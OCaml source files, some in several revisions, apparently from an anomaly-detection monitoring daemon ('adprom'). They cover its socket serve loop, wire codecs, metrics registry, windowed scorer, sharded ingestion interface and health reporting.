          let m = if meth = "HEAD" then `Head else `Get in
          serve_http c m target
      | _ -> respond_http c ~head_only:false 400 "bad request line\n"
    end
  in
  let process c s =
    match c.codec with
    | Undecided _ | Http _ -> assert false
    | Bin (dec, enc) -> (
        match
          Frame.Decoder.feed_fold dec s ~init:() ~f:(fun () fr ->
              handle_frame c enc fr)
        with
        | Ok () ->
            if
              !stop = None
              && List.memq c !conns
              && c.ingested - c.acked >= ack_interval
            then begin
              reply enc c (Frame.Ack { count = c.ingested });
              c.acked <- c.ingested
            end
        | Error _ ->
            Metrics.incr c_decode_err;
            close_conn c)
    | Txt dec -> (
        match
          Transport.Text.fold dec s ~init:() ~f:(fun () it ->
              ignore (Daemon.ingest_item daemon it);
              c.ingested <- c.ingested + 1)
        with
        | Ok () -> ()
        | Error _ ->
            Metrics.incr c_decode_err;
            close_conn c)
  in
  let handle_chunk c s =
    match c.codec with
    | Undecided b -> (
        Buffer.add_string b s;
        if Buffer.length b >= 2 then begin
          let buffered = Buffer.contents b in
          match Frame.detect buffered with
          | Transport.Binary ->
              c.codec <-
                Bin
                  ( Frame.Decoder.create ~max_version:version (),
                    Frame.Encoder.create () );
              process c buffered
          | Transport.Line -> (
              match http_method_prefix buffered with
              | None -> () (* "GET" so far — could still be either *)
              | Some `No ->
                  c.codec <- Txt (Transport.Text.decoder ());
                  process c buffered
              | Some (`Get | `Head) ->
                  let hb = Buffer.create 256 in
                  Buffer.add_string hb buffered;
                  c.codec <- Http hb;
                  try_http c hb)
        end)
    | Http hb ->
        Buffer.add_string hb s;
        try_http c hb
    | Bin _ | Txt _ -> process c s
  in
  let handle_eof c =
    (match c.codec with
    | Txt dec -> (
        match Transport.Text.finish dec with
        | Ok items -> ingest_items c items
        | Error _ -> Metrics.incr c_decode_err)
    | Bin (dec, _) -> (
        match Frame.Decoder.finish dec with
        | Ok () -> ()
        | Error _ -> Metrics.incr c_decode_err)
    | Http _ -> () (* hung up before finishing the request head *)
    | Undecided b when Buffer.length b > 0 -> (
        (* a text stream shorter than the two detect bytes *)
        let dec = Transport.Text.decoder () in
        c.codec <- Txt dec;
        match Transport.Text.feed dec (Buffer.contents b) with
        | Ok items -> (
            ingest_items c items;
            match Transport.Text.finish dec with
            | Ok items -> ingest_items c items
            | Error _ -> Metrics.incr c_decode_err)
        | Error _ -> Metrics.incr c_decode_err)
    | Undecided _ -> ());
    close_conn c
  in
  let rec loop () =
    match !stop with
    | Some _ -> ()
    | None ->
        let fds = socket :: List.map (fun c -> c.fd) !conns in
        (match Unix.select fds [] [] 1.0 with
        | readable, _, _ ->
            List.iter
              (fun fd ->
                if fd = socket then begin
                  let cfd, _ = Unix.accept socket in
                  Metrics.incr c_conns;
                  conns :=
                    { fd = cfd;
                      codec = Undecided (Buffer.create 8);
                      ingested = 0;
                      acked = 0 }
                    :: !conns
                end
                else
                  match List.find_opt (fun c -> c.fd = fd) !conns with
                  | None -> ()
                  | Some c -> (
                      match Unix.read c.fd chunk 0 (Bytes.length chunk) with
                      | 0 -> handle_eof c
                      | n ->
                          Metrics.incr ~by:n c_bytes;
                          handle_chunk c (Bytes.sub_string chunk 0 n)
                      | exception Unix.Unix_error (ECONNRESET, _, _) ->
                          handle_eof c))
              readable
        | exception Unix.Unix_error (EINTR, _, _) -> ());
        loop ()
  in
  loop ();
  let summary =
    Adprom_obs.Trace.with_span "daemon.drain" (fun () -> Daemon.drain daemon)
  in
  let seconds = Unix.gettimeofday () -. t0 in
  let alerts = Daemon.alerts daemon in
  let node_summary =
    {
      Frame.node = name;
      summary;
      incidents =
        List.map
          (fun (i : Alerts.incident) ->
            (i.Alerts.session, Alerts.source_to_string i.Alerts.source))
          (Alerts.incidents alerts);
      fused =
        List.map
          (fun (r : Daemon.session_report) ->
            (r.Daemon.session, Alerts.fused_axes alerts ~session:r.Daemon.session))
          summary.Daemon.sessions;
    }
  in
  (match !stop with
  | Some c -> (
      (match c.codec with
      | Bin (_, enc) -> (
          try reply enc c (Frame.Summary node_summary)
          with Unix.Unix_error _ -> ())
      | Txt _ | Undecided _ | Http _ -> ());
      close_conn c)
  | None -> ());
  List.iter (fun c -> try Unix.close c.fd with Unix.Unix_error _ -> ()) !conns;
  {
    Replay.summary;
    seconds;
    metrics;
    alerts;
    events_tail = Daemon.recent_events daemon;
  }

module Trace_io = Runtime.Trace_io

type event = Adprom.Sessions.tagged = {
  session : int;
  event : Runtime.Collector.event;
}

type query = { q_session : int; rows : int; sql : string }

type item = Call of event | Query of query

let encode_event { session; event = e } =
  Printf.sprintf "%d\t%s\t%d\t%s" session e.Runtime.Collector.caller
    e.Runtime.Collector.block
    (Trace_io.encode_symbol e.Runtime.Collector.symbol)

let encode_query { q_session; rows; sql } =
  Printf.sprintf "q\t%d\t%d\t%s" q_session rows sql

let encode_item = function
  | Call ev -> encode_event ev
  | Query q -> encode_query q

let is_query_line line =
  String.length line >= 2 && line.[0] = 'q' && line.[1] = '\t'

let parse_query_line line =
  (* q <TAB> session <TAB> rows <TAB> sql; the sql may itself contain
     tabs, so only the first three cuts split. *)
  match String.split_on_char '\t' line with
  | "q" :: sid :: rows :: sql_rest when sql_rest <> [] -> (
      let sql = String.concat "\t" sql_rest in
      match (int_of_string_opt sid, int_of_string_opt rows) with
      | Some q_session, _ when q_session < 0 ->
          Error (Printf.sprintf "negative session id %d" q_session)
      | Some q_session, Some rows -> Ok { q_session; rows; sql }
      | None, _ -> Error (Printf.sprintf "bad session id %S" sid)
      | _, None -> Error (Printf.sprintf "bad row count %S" rows))
  | _ -> Error "expected q<TAB>session<TAB>rows<TAB>sql"

let encode stream =
  let buf = Buffer.create (Array.length stream * 40) in
  Array.iter
    (fun ev ->
      Buffer.add_string buf (encode_event ev);
      Buffer.add_char buf '\n')
    stream;
  Buffer.contents buf

let parse_line line =
  match String.index_opt line '\t' with
  | None -> Error "expected 4 tab-separated fields (session, caller, block, symbol)"
  | Some cut -> (
      let sid = String.sub line 0 cut in
      let rest = String.sub line (cut + 1) (String.length line - cut - 1) in
      match int_of_string_opt sid with
      | None -> Error (Printf.sprintf "bad session id %S" sid)
      | Some session when session < 0 ->
          Error (Printf.sprintf "negative session id %d" session)
      | Some session -> (
          match Trace_io.parse_event rest with
          | Ok event -> Ok { session; event }
          | Error e -> Error e))

let chomp line =
  let n = String.length line in
  if n > 0 && line.[n - 1] = '\r' then String.sub line 0 (n - 1) else line

let decode text =
  let rec go acc lineno = function
    | [] -> Ok (Array.of_list (List.rev acc))
    | line :: rest -> (
        let line = chomp line in
        match String.trim line with
        | "" -> go acc (lineno + 1) rest
        | t when t.[0] = '#' -> go acc (lineno + 1) rest
        | _ when is_query_line line ->
            (* query lines ride alongside call events; plain decode
               yields the call stream only (see decode_mixed) *)
            go acc (lineno + 1) rest
        | _ -> (
            match parse_line line with
            | Ok ev -> go (ev :: acc) (lineno + 1) rest
            | Error e -> Error (Printf.sprintf "line %d: %s" lineno e)))
  in
  go [] 1 (String.split_on_char '\n' text)

let decode_mixed text =
  let rec go acc lineno = function
    | [] -> Ok (Array.of_list (List.rev acc))
    | line :: rest -> (
        let line = chomp line in
        match String.trim line with
        | "" -> go acc (lineno + 1) rest
        | t when t.[0] = '#' -> go acc (lineno + 1) rest
        | _ when is_query_line line -> (
            match parse_query_line line with
            | Ok q -> go (Query q :: acc) (lineno + 1) rest
            | Error e -> Error (Printf.sprintf "line %d: %s" lineno e))
        | _ -> (
            match parse_line line with
            | Ok ev -> go (Call ev :: acc) (lineno + 1) rest
            | Error e -> Error (Printf.sprintf "line %d: %s" lineno e)))
  in
  go [] 1 (String.split_on_char '\n' text)

let encode_items items =
  let buf = Buffer.create (Array.length items * 40) in
  Array.iter
    (fun it ->
      Buffer.add_string buf (encode_item it);
      Buffer.add_char buf '\n')
    items;
  Buffer.contents buf

let save stream path =
  let oc = open_out_bin path in
  output_string oc (encode stream);
  close_out oc

let load path =
  match open_in_bin path with
  | ic ->
      let n = in_channel_length ic in
      let text = really_input_string ic n in
      close_in ic;
      decode text
  | exception Sys_error msg -> Error msg

(* Thin deprecated aliases over Transport.Text — the line format's real
   implementation. Kept so pre-redesign callers and recorded streams
   are unchanged. *)

type event = Transport.event = {
  session : int;
  event : Runtime.Collector.event;
}

type query = Transport.query = { q_session : int; rows : int; sql : string }

type item = Transport.item = Call of event | Query of query

let encode_event ev = Transport.Text.encode_line (Call ev)
let encode_query q = Transport.Text.encode_line (Query q)
let encode_item = Transport.Text.encode_line
let parse_line = Transport.Text.parse_event_line
let parse_query_line = Transport.Text.parse_query_line
let is_query_line = Transport.Text.is_query_line

let encode stream =
  Transport.encode_all
    (module Transport.Text)
    (Array.map (fun ev -> Call ev) stream)

let encode_items = Transport.encode_all (module Transport.Text)

let decode_mixed = Transport.decode_all (module Transport.Text)

let decode text =
  match decode_mixed text with
  | Error e -> Error e
  | Ok items ->
      Ok
        (Array.of_list
           (List.filter_map
              (function Call ev -> Some ev | Query _ -> None)
              (Array.to_list items)))

let save stream path =
  let oc = open_out_bin path in
  output_string oc (encode stream);
  close_out oc

let load path =
  match open_in_bin path with
  | ic ->
      let n = in_channel_length ic in
      let text = really_input_string ic n in
      close_in ic;
      decode text
  | exception Sys_error msg -> Error msg

(** Daemon observability: a small thread-safe metrics registry
    (counters, gauges with high-watermarks, latency histograms) with a
    Prometheus-style text dump. Counters and gauges are lock-free
    ([Atomic]); histograms take a per-histogram mutex. Registering the
    same name twice returns the existing metric. *)

type t

type counter
type gauge
type histogram

val create : unit -> t

val counter : t -> string -> counter
(** Get-or-create. @raise Invalid_argument if [name] is already
    registered as a different metric type (same for {!gauge} and
    {!histogram}). *)

val incr : ?by:int -> counter -> unit
val counter_value : counter -> int

val gauge : t -> string -> gauge
val set_gauge : gauge -> int -> unit
val gauge_value : gauge -> int
val gauge_max : gauge -> int
(** High-watermark of all values ever set. *)

val default_buckets : float array
(** Latency buckets in seconds, 1µs .. 1s. *)

val histogram : ?buckets:float array -> t -> string -> histogram
(** [buckets] are strictly increasing upper bounds; an implicit [+inf]
    bucket is appended. *)

val observe : histogram -> float -> unit
val histogram_count : histogram -> int

val quantile : histogram -> float -> float
(** Upper bound of the bucket containing the [q]-quantile observation
    ([nan] when empty, [infinity] when it falls in the overflow
    bucket). *)

val dump : t -> string
(** All metrics in registration order, one [name value] line each;
    histograms dump cumulative buckets, sum and count. *)

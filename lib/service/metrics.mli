(** Daemon observability: a small thread-safe metrics registry
    (counters, gauges with high-watermarks, latency histograms) with a
    Prometheus-style text dump. Counters and gauges are lock-free
    ([Atomic]); histograms take a per-histogram mutex. Registering the
    same name twice returns the existing metric. *)

type t

type counter
type gauge
type histogram

val create : unit -> t

val counter : t -> string -> counter
(** Get-or-create. @raise Invalid_argument if [name] is already
    registered as a different metric type (same for {!gauge} and
    {!histogram}). *)

val incr : ?by:int -> counter -> unit
val counter_value : counter -> int

val gauge : t -> string -> gauge
val set_gauge : gauge -> int -> unit
val gauge_value : gauge -> int
val gauge_max : gauge -> int
(** High-watermark of all values ever set. *)

val default_buckets : float array
(** Latency buckets in seconds, 1µs .. 1s. *)

val histogram : ?buckets:float array -> t -> string -> histogram
(** [buckets] are strictly increasing upper bounds; an implicit [+inf]
    bucket is appended. *)

val observe : histogram -> float -> unit
val histogram_count : histogram -> int

val quantile : histogram -> float -> float
(** Upper bound of the bucket containing the [q]-quantile observation
    ([nan] when empty, [infinity] when it falls in the overflow
    bucket). *)

val span_exporter : t -> Adprom_obs.Trace.span -> unit
(** Bridge from tracing to metrics: record the span's duration into the
    histogram [adprom_span_<name>_seconds] (non-alphanumerics in the
    span name become [_]). Register it with
    [Adprom_obs.Trace.on_span_end] to aggregate every finished span. *)

val dump : t -> string
(** All metrics sorted by name, one [name value] line each; histograms
    dump cumulative buckets, sum and count. The sort keys the dump on
    content, not registration interleaving, so it is diffable across
    runs. *)

(** Daemon observability: a small thread-safe metrics registry
    (counters, gauges with high-watermarks, latency histograms) with a
    Prometheus text exposition and a mergeable value-level snapshot
    (what [Health_resp] frames carry across the cluster). Counters and
    gauges are lock-free ([Atomic]); histograms take a per-histogram
    mutex. Registering the same name twice returns the existing
    metric. *)

type t

type counter
type gauge
type histogram

val create : unit -> t

val counter : ?help:string -> t -> string -> counter
(** Get-or-create. [help] (first registration wins) becomes the
    [# HELP] line of {!dump}; without it the help text defaults to the
    metric name. @raise Invalid_argument if [name] is already
    registered as a different metric type (same for {!gauge} and
    {!histogram}). *)

val incr : ?by:int -> counter -> unit
val counter_value : counter -> int

val gauge : ?help:string -> t -> string -> gauge
val set_gauge : gauge -> int -> unit
val gauge_value : gauge -> int
val gauge_max : gauge -> int
(** High-watermark of all values ever set. *)

val default_buckets : float array
(** Latency buckets in seconds, 1µs .. 1s. *)

val histogram : ?buckets:float array -> ?help:string -> t -> string -> histogram
(** [buckets] are strictly increasing upper bounds; an implicit [+inf]
    bucket is appended. *)

val observe : histogram -> float -> unit
val histogram_count : histogram -> int

val quantile : histogram -> float -> float
(** Upper bound of the bucket containing the [q]-quantile observation
    ([nan] when empty, [infinity] when it falls in the overflow
    bucket). *)

val span_exporter : t -> Adprom_obs.Trace.span -> unit
(** Bridge from tracing to metrics: record the span's duration into the
    histogram [adprom_span_<name>_seconds] (non-alphanumerics in the
    span name become [_]). Register it with
    [Adprom_obs.Trace.on_span_end] to aggregate every finished span. *)

(** {1 Snapshots}

    A snapshot is the registry lowered to plain values — the form a
    node ships in a [Health_resp] frame and the router folds into a
    fleet view. Merging is exact: counters sum, gauges (and their
    high-watermarks) take the max across nodes, histograms with equal
    bucket layouts add bucket-wise, so fleet quantiles come from real
    merged buckets, not averaged per-node quantiles. *)

type hist_snapshot = {
  hs_name : string;
  hs_bounds : float array;
  hs_buckets : int array;  (** raw per-bucket counts, length bounds + 1 *)
  hs_sum : float;
  hs_count : int;
}

type snapshot = {
  counters : (string * int) list;
  gauges : (string * int * int) list;  (** name, value, high-watermark *)
  histograms : hist_snapshot list;
}

val snapshot : t -> snapshot
(** Every metric, sorted by name. Each histogram is copied under its
    own mutex (consistent per histogram, not across the registry). *)

val merge_snapshots : snapshot list -> snapshot
(** Fleet fold: counters summed by name, gauge values and watermarks
    maxed, histogram buckets added when the bucket layouts match (a
    layout mismatch keeps the first node's histogram). Output sorted by
    name. *)

val hist_quantile : hist_snapshot -> float -> float
(** Same contract as {!quantile}, over a snapshot. *)

val snapshot_counter : snapshot -> string -> int
(** The counter's value, 0 when absent. *)

val snapshot_histogram : snapshot -> string -> hist_snapshot option

val dump : t -> string
(** Prometheus text exposition, metrics sorted by name: [# HELP] /
    [# TYPE] lines per family, [name value] samples, histograms as
    full cumulative [_bucket{le="..."}] series (every bucket, [+Inf]
    included) plus [_sum] / [_count], gauges as the value plus a
    [_max] high-watermark gauge. The sort keys the dump on content,
    not registration interleaving, so it is diffable across runs. *)

module Symbol = Analysis.Symbol
module Detector = Adprom.Detector
module Profile = Adprom.Profile
module Window = Adprom.Window

type t = {
  profile : Profile.t;
  window : int;
  buf : Runtime.Collector.event option array;  (* ring, capacity [window] *)
  mutable pushed : int;  (* total events seen *)
  mutable flushed : bool;
  keep_verdicts : bool;
  mutable verdicts_rev : Detector.verdict list;
  mutable windows_scored : int;
  mutable worst : Detector.flag;
  mutable flag_counts : int array;  (* indexed by Detector severity *)
}

let severity = function
  | Detector.Normal -> 0
  | Detector.Anomalous -> 1
  | Detector.Out_of_context -> 2
  | Detector.Data_leak -> 3

let create ?window ?(keep_verdicts = true) profile =
  let window =
    match window with
    | Some w -> w
    | None -> profile.Profile.params.Profile.window
  in
  if window <= 0 then invalid_arg "Scorer.create: window must be positive";
  {
    profile;
    window;
    buf = Array.make window None;
    pushed = 0;
    flushed = false;
    keep_verdicts;
    verdicts_rev = [];
    windows_scored = 0;
    worst = Detector.Normal;
    flag_counts = Array.make 4 0;
  }

(* Materialize the last [n] buffered events, oldest first, as a Window.t
   (same symbol projection as Window.of_trace). *)
let window_of_last t n =
  let start = t.pushed - n in
  let event i =
    match t.buf.((start + i) mod t.window) with
    | Some e -> e
    | None -> assert false
  in
  {
    Window.obs =
      Array.init n (fun i -> Symbol.observable (event i).Runtime.Collector.symbol);
    callers = Array.init n (fun i -> (event i).Runtime.Collector.caller);
  }

let account t verdict =
  t.windows_scored <- t.windows_scored + 1;
  let s = severity verdict.Detector.flag in
  t.flag_counts.(s) <- t.flag_counts.(s) + 1;
  if s > severity t.worst then t.worst <- verdict.Detector.flag;
  if t.keep_verdicts then t.verdicts_rev <- verdict :: t.verdicts_rev

let push t event =
  if t.flushed then invalid_arg "Scorer.push: scorer already flushed";
  t.buf.(t.pushed mod t.window) <- Some event;
  t.pushed <- t.pushed + 1;
  if t.pushed >= t.window then begin
    let verdict = Detector.classify t.profile (window_of_last t t.window) in
    account t verdict;
    Some verdict
  end
  else None

let flush t =
  if t.flushed then None
  else begin
    t.flushed <- true;
    (* A session shorter than the window yields one whole-trace window,
       exactly like Window.of_trace on a short trace. *)
    if t.pushed > 0 && t.pushed < t.window then begin
      let verdict = Detector.classify t.profile (window_of_last t t.pushed) in
      account t verdict;
      Some verdict
    end
    else None
  end

let events_seen t = t.pushed
let windows_scored t = t.windows_scored
let worst t = t.worst
let verdicts t = List.rev t.verdicts_rev

let flag_count t flag = t.flag_counts.(severity flag)

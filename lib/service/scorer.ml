module Detector = Adprom.Detector
module Profile = Adprom.Profile
module Scoring = Adprom.Scoring

type t = {
  stream : Scoring.Stream.t;
  keep_verdicts : bool;
  mutable verdicts_rev : Detector.verdict list;
  mutable windows_scored : int;
  mutable worst : Detector.flag;
  mutable flag_counts : int array;  (* indexed by Detector severity *)
}

let severity = function
  | Detector.Normal -> 0
  | Detector.Anomalous -> 1
  | Detector.Out_of_context -> 2
  | Detector.Data_leak -> 3

let create_with ?window ?(keep_verdicts = true) engine =
  {
    stream = Scoring.Stream.create ?window engine;
    keep_verdicts;
    verdicts_rev = [];
    windows_scored = 0;
    worst = Detector.Normal;
    flag_counts = Array.make 4 0;
  }

let create ?window ?keep_verdicts profile =
  create_with ?window ?keep_verdicts (Scoring.of_profile profile)

let engine t = Scoring.Stream.engine t.stream

let account t verdict =
  t.windows_scored <- t.windows_scored + 1;
  let s = severity verdict.Detector.flag in
  t.flag_counts.(s) <- t.flag_counts.(s) + 1;
  if s > severity t.worst then t.worst <- verdict.Detector.flag;
  if t.keep_verdicts then t.verdicts_rev <- verdict :: t.verdicts_rev

let push t event =
  match Scoring.Stream.push t.stream event with
  | Ok (Some verdict) ->
      account t verdict;
      Ok (Some verdict)
  | Ok None -> Ok None
  | Error _ as e -> e

let flush t =
  if Scoring.Stream.flushed t.stream then None
  else
    match Scoring.Stream.flush t.stream with
    | Some verdict ->
        account t verdict;
        Some verdict
    | None -> None

let explain_last ?top t = Scoring.Stream.explain_last ?top t.stream

let events_seen t = Scoring.Stream.events_seen t.stream
let windows_scored t = t.windows_scored
let worst t = t.worst
let verdicts t = List.rev t.verdicts_rev

let flag_count t flag = t.flag_counts.(severity flag)

(** The multi-tenant online monitoring daemon.

    A single-threaded ingestion front-end routes tagged call events to
    one of N shards (hash of the session id), each served by its own
    OCaml 5 domain holding the per-session {!Scorer}s. Per-shard queues
    are bounded; when a queue is full the daemon sheds the {e whole}
    offending session — dropping individual events would fabricate call
    transitions no program ever produced (the failure mode
    {!Adprom.Sessions} documents) — and counts every dropped event.
    Because a session always lands on the same shard, per-session event
    order is preserved and verdicts are independent of how sessions
    interleave: replaying a multiplexed stream yields exactly the
    verdicts of batch [Detector.monitor] on the demultiplexed traces.

    [Data_leak] / [Out_of_context] verdicts are forwarded to the
    {!Alerts} sink; throughput, verdict counts, queue depths, drops and
    scoring latency land in the {!Metrics} registry. *)

type session_report = {
  session : int;
  events : int;
  windows : int;
  worst : Adprom.Detector.flag;
  verdicts : Adprom.Detector.verdict list;
      (** arrival order; empty under [keep_verdicts:false] *)
  qsig_checks : int;  (** executed queries checked by the query axis *)
  qsig_anomalies : int;
      (** query-axis anomalies — independent of [worst]/[verdicts],
          which remain sequence-axis only *)
}

type summary = {
  sessions : session_report list;  (** surviving sessions, ascending id *)
  shed : (int * int * int) list;
      (** per shed session: id, events dropped at the door, previously
          accepted events discarded with the session's partial state *)
  events_offered : int;
  events_ingested : int;
  events_dropped : int;  (** [offered = ingested + dropped] always *)
}

type admission = Accepted | Rejected of { newly_shed : bool }

type gate_mode =
  | Gate_off  (** no automaton: PR 4 behaviour exactly *)
  | Gate_explain
      (** load the DFA for explanations and gate metrics only — classify
          verdicts stay bit-for-bit identical to [Gate_off] *)
  | Gate_enforce
      (** DFA-rejected windows short-circuit to an anomalous verdict
          with no forward pass ({!Adprom.Scoring.set_gate_enforce}) *)

val gate_mode_to_string : gate_mode -> string

val gate_mode_of_string : string -> gate_mode option
(** ["off"], ["explain"], ["enforce"]. *)

type qsig_mode =
  | Qsig_off  (** ignore query lines: pre-qsig behaviour exactly *)
  | Qsig_warn
      (** check executed queries under the {!Adprom_qsig.Constraints.Flexible}
          policy; anomalies become incidents and metrics only *)
  | Qsig_enforce
      (** check under [Strict] — tighter constraints, so the anomaly
          set is a superset of [Qsig_warn]'s on the same stream *)

val qsig_mode_to_string : qsig_mode -> string

val qsig_mode_of_string : string -> qsig_mode option
(** ["off"], ["warn"], ["enforce"]. *)

type t

val create :
  ?shards:int ->
  ?queue_capacity:int ->
  ?keep_verdicts:bool ->
  ?ring_capacity:int ->
  ?metrics:Metrics.t ->
  ?alerts:Alerts.t ->
  ?vet_against:Analysis.Analyzer.t ->
  ?vet_policy:Adprom.Profile_check.policy ->
  ?static_gate:gate_mode ->
  ?qsig_mode:qsig_mode ->
  ?qsig_profile:Adprom_qsig.Profile.t ->
  ?qsig_static_gate:gate_mode ->
  Adprom.Profile.t ->
  t
(** Spawn the worker domains. Defaults: 4 shards, queue capacity 4096,
    verdicts kept, 256 recent events retained per shard. The profile is
    shared read-only across domains. [queue_capacity 0] sheds every
    session on arrival (useful for testing the overload path). Also
    registers a {!Metrics.span_exporter} hook for the daemon's lifetime
    (removed at {!drain}), so span durations aggregate into the metrics
    registry whenever tracing is on.

    [vet_against] runs {!Adprom.Profile_check} on the profile against
    the program's static analysis before any domain spawns, under
    [vet_policy] (default [Warn]: findings are logged with scope
    [daemon] and counted as [adprom_profile_vet_{errors,warnings}_total];
    [Enforce] refuses a profile with error-class findings). It also
    loads the statically possible pairs into every worker engine, so
    incident explanations can name [statically-impossible-pair] gates.

    With [vet_against] and [static_gate] (default [Gate_explain]), the
    program's call-sequence automaton ({!Analysis.Seqauto}) is compiled
    once before the domains spawn, loaded into every worker engine, and
    used for the vet's n-gram coverage cross-check. DFA walks and
    rejections are exported as [adprom_dfa_gate_checks_total] /
    [adprom_dfa_gate_rejections_total] (their ratio is the gate hit
    rate). Without [vet_against] there is no program to build the
    automaton from and [static_gate] is inert.

    With [qsig_mode] (default [Qsig_off]) and [qsig_profile], every
    worker compiles the query-signature profile into an
    {!Adprom_qsig.Engine} (the profile is snapshotted before domains
    spawn) and checks the session's executed queries as a second,
    independent detection axis. Query-axis anomalies land in the
    {!Alerts} sink as [Query_verdict] incidents and count toward
    [adprom_qsig_checks_total] / [adprom_qsig_anomalies_total];
    sequence-axis verdicts are bit-for-bit unaffected by the mode.

    [qsig_static_gate] (default [Gate_explain]) is the query axis'
    analogue of [static_gate]: with [vet_against] and an active query
    axis, the program's statically inferable signature set
    ({!Analysis.Qstatic}) is computed once before the domains spawn and
    loaded into every worker's qsig engine
    ({!Adprom_qsig.Engine.set_static_signatures}). Gate traffic is
    exported as [adprom_qsig_gate_checks_total] /
    [adprom_qsig_gate_rejections_total]. Under [Gate_explain] query
    verdicts stay bit-for-bit identical to [Gate_off]; under
    [Gate_enforce] a query whose signature the program provably cannot
    emit short-circuits to an [Impossible_signature] anomaly. Inert
    without [vet_against] or without [qsig_mode]+[qsig_profile].

    @raise Invalid_argument on [shards < 1], a negative capacity, or a
    profile failing vet under [Enforce]. *)

val ingest : t -> Codec.event -> admission
(** Route one event (not thread-safe: one acceptor thread). [Rejected]
    is the explicit backpressure signal; [newly_shed] marks the
    admission that tripped the overload policy.
    @raise Invalid_argument after {!drain} or on a negative session id. *)

val ingest_query : t -> Codec.query -> admission
(** Route one executed-query record to its session's shard. A no-op
    [Accepted] when the query axis is off; [Rejected] only when the
    session was already shed (queries are exempt from the shedding
    bound — they are low-volume side traffic and cannot fabricate call
    transitions).
    @raise Invalid_argument after {!drain} or on a negative session id. *)

val ingest_item : t -> Codec.item -> admission
(** {!ingest} or {!ingest_query} by the wire line's kind. *)

val drain : t -> summary
(** Close all queues, let the workers finish scoring, flush every
    scorer (short sessions get their whole-trace verdict) and join the
    domains. The daemon cannot be used afterwards. *)

val metrics : t -> Metrics.t
val alerts : t -> Alerts.t
val shard_count : t -> int

val queue_capacity : t -> int
(** The per-shard bound {!create} was given — what {!Health.evaluate}
    relates the queue high-watermark to. *)

val e2e_buckets : float array
(** Bucket bounds of [adprom_e2e_latency_seconds]
    ({!Metrics.default_buckets} extended past 1s): registered
    identically on every node so fleet merges stay bucket-exact. *)

val recent_events : ?limit:int -> t -> Adprom_obs.Log.event list
(** The per-shard recent-event rings (incidents and, at [Debug]
    threshold, per-call events), merged and time-ordered; [limit] keeps
    only the newest entries. Call after {!drain} — while workers run
    the rings are theirs, and a concurrent read is best-effort. *)

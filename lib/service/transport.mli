(** The service transport API: one signature both wire formats implement.

    A transport turns the daemon's wire items — tagged call events and
    executed-query records — into bytes and back. Two implementations
    exist: {!Text}, the original newline-delimited debug/compat format
    (human-greppable, what `adprom record` wrote before the redesign),
    and {!Frame.T}, the length-prefixed versioned binary frame format
    the scale-out tier speaks. Both are {e streaming}: a decoder is fed
    arbitrary byte chunks (split or coalesced TCP reads) and yields the
    items completed so far, so the same code path serves files and
    sockets.

    Decoding is total: malformed input yields [Error], never an
    exception, and a decoder that has reported an error stays dead
    (binary framing cannot resynchronize). Encoders and decoders are
    stateful per connection — the binary format interns caller/symbol
    strings per connection — and are not thread-safe. *)

type event = Adprom.Sessions.tagged = {
  session : int;
  event : Runtime.Collector.event;
}

type query = { q_session : int; rows : int; sql : string }
(** An executed-query record for the query-signature axis. [rows] is
    the result cardinality the DBMS reported (non-negative); [sql] is
    the executed text with parameters bound. *)

type item = Call of event | Query of query

val item_session : item -> int
(** The session id an item belongs to — the cluster routing key. *)

module type S = sig
  val id : string
  (** ["text"] or ["binary"] — what [--wire] selects. *)

  type enc
  type dec

  val encoder : unit -> enc
  (** Fresh per-connection encoder state (the binary encoder's interned
      string table starts empty). *)

  val decoder : unit -> dec

  val encode : enc -> Buffer.t -> item -> unit
  (** Append one item's wire bytes to [buf]. An encoder may stage
      frames internally and move them to [buf] in batches; call
      {!flush} before transmitting or measuring the buffer. Use one
      buffer per encoder between flushes. *)

  val flush : enc -> Buffer.t -> unit
  (** Drain any internally staged bytes to [buf]. A no-op for the text
      format; the binary encoder batches staged frames so the item hot
      path pays one buffer copy per ~4 KiB rather than one per frame. *)

  val feed : dec -> ?pos:int -> ?len:int -> string -> (item list, string) result
  (** Consume one chunk of wire bytes (a TCP read, or a whole file) and
      return the items it completed, in order. Partial trailing data is
      buffered for the next call. [Error] poisons the decoder. *)

  val fold :
    dec ->
    ?pos:int ->
    ?len:int ->
    string ->
    init:'a ->
    f:('a -> item -> 'a) ->
    ('a, string) result
  (** Like {!feed}, but apply [f] to each item as it completes instead
      of building a list — the serve loop and throughput-sensitive
      consumers use this to skip per-chunk list construction. Same
      chunking, ordering and poisoning behaviour as {!feed}. *)

  val finish : dec -> (item list, string) result
  (** Signal end of stream (EOF). Returns the items a final partial
      line yields (text), or [Error] if bytes of an incomplete frame
      are still pending (binary: a truncated stream). *)
end

type wire = Line | Binary

val wire_to_string : wire -> string
val wire_of_string : string -> wire option
(** ["text"] / ["binary"]. *)

val encode_all : (module S) -> item array -> string
(** One fresh encoder over the whole array — what record files hold. *)

val decode_all : (module S) -> string -> (item array, string) result
(** One fresh decoder over the whole buffer, [feed] then [finish]. *)

(** {1 The line format}

    [session<TAB>caller<TAB>block<TAB>symbol] for call events (symbol in
    the {!Runtime.Trace_io} encoding), [q<TAB>session<TAB>rows<TAB>sql]
    for executed queries. Blank lines, CRLF endings and [#] comments are
    tolerated; errors carry 1-based [line N:] prefixes. *)
module Text : sig
  include S

  val encode_line : item -> string
  (** One line, without the trailing newline. *)

  val parse_item : string -> (item, string) result
  (** Parse one wire line of either kind (no line-number context). *)

  val parse_event_line : string -> (event, string) result
  val parse_query_line : string -> (query, string) result
  val is_query_line : string -> bool
end

(** Node health derivation: one place turns a {!Metrics.snapshot} into
    the Ok / Degraded / Unhealthy verdict that the HTTP [/healthz]
    endpoint, the [Health_resp] frame and the fleet dashboard all
    report, so the three surfaces can never disagree. *)

type status = Healthy | Degraded | Unhealthy

val status_to_string : status -> string
(** ["ok"], ["degraded"], ["unhealthy"]. *)

val status_of_string : string -> status option

val status_to_int : status -> int
(** 0 / 1 / 2 — the wire encoding of the status. *)

val status_of_int : int -> status option

val worst : status -> status -> status
(** The more severe of the two — the fleet fold. *)

type thresholds = {
  shed_degraded : float;  (** dropped/offered ratio that degrades *)
  shed_unhealthy : float;  (** dropped/offered ratio that fails *)
  queue_hwm_frac : float;  (** queue high-watermark / capacity *)
  scorer_errors : int;
  e2e_p99_slo : float;  (** seconds of ingest→verdict p99 *)
}

val default_thresholds : thresholds
(** 1% shed degrades, 10% fails; watermark at 90% of capacity, any
    scorer error, or e2e p99 over 1s degrade. *)

type report = {
  status : status;
  reasons : string list;  (** one per tripped threshold, empty when ok *)
  shed_rate : float;
  queue_depth : int;  (** sum of per-shard depth gauges *)
  queue_hwm : int;  (** max per-shard high-watermark *)
  queue_capacity : int;
